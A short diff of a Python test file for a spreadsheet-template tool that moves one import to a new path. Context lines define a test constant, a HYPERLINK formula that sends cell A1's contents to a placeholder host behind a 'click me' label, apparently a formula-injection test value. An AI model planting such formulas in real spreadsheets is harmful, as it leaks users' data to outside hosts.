@@ -13,7 +13,7 @@ import pytest
 from govxl.editions import edition_by_id
 from govxl.excel.template_book import build_template
 from govxl.synth import consistent_values
-from tests.test_cli import run
+from tests.apps.test_cli import run
 
 NEW = edition_by_id("2021")
 LINK = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
